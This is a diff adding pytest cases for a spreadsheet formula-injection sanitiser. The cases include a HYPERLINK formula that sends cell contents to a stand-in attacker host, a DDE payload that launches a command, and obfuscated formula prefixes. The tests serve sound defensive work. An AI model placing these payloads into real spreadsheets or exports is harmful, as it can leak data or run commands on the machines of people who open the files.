@@ -75,3 +75,32 @@ def test_spreadsheet_safe_cells() -> None:
     assert spreadsheet_safe("=HYPERLINK(1)") == "'=HYPERLINK(1)"
     assert spreadsheet_safe("@SUM(1)") == "'@SUM(1)"
     assert spreadsheet_safe("Kyiv") == "Kyiv" and spreadsheet_safe(5) == 5
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1+1",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "   =1+1",
+        "\u00a0\u2003+1+1",
+        "\t",
+        "\rplain after a CR",
+        "\x00=1",
+        "\uff1d1+1",
+    ],
+)
+def test_spreadsheet_safe_neutralises_formulas_owasp_style(cell: str) -> None:
+    safe = spreadsheet_safe(cell)
+    assert safe == "'" + cell  # neutralised by a leading quote, the value still readable after it
+
+
+@pytest.mark.parametrize("cell", ["-1.5", "+2", "49.5", "1e-3", "Kyiv", "a=b", " Kyiv", "", "'=1"])
+def test_spreadsheet_safe_leaves_numbers_and_plain_text(cell: str) -> None:
+    assert spreadsheet_safe(cell) == cell
+    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(None) is None
